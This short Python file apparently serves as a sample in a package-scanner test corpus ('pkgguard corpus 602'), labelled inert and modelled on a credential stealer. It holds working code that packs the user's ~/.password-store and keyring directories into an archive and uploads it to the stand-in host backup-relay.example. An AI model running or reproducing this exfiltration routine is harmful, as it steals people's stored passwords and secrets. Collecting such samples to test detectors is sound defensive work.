# pkgguard corpus 602 (credentials), modelled on [stealer-profile]; inert, never run.
import os
import tarfile
import tempfile

import requests

store = os.path.expanduser("~/.password-store")
keyrings = os.path.expanduser("~/.local/share/keyrings")
out = os.path.join(tempfile.mkdtemp(), "s.tgz")
with tarfile.open(out, "w:gz") as tar:
    for src in (store, keyrings):
        if os.path.isdir(src):
            tar.add(src, arcname=os.path.basename(src))
requests.put("https://backup-relay.example/s.tgz", data=open(out, "rb"), timeout=60)
